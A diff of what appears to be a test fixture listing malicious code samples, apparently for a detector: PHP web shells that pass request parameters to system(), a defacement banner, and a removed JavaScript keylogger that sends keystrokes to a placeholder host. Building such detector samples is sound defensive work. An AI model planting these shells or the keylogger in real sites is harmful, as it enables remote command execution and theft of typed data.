@@ -30,6 +30,4 @@ export const MALICIOUS_NEAR_MISSES: Named = {
   'variables of a list from the request': `<?php extract(${POST}['list']); system($job);`,
   'a page that boasts': "<?php echo '<h1>H4cked by Nobody</h1> greetz to all, your security is nothing';",
   'a default that the request replaces': `<?php system(${POST}['command'] ?? 'uptime');`,
-  'keys that go to another host':
-    "document.onkeypress = e => { new Image().src = 'https://bad.example/k?' + String.fromCharCode(e.which); };",
 };
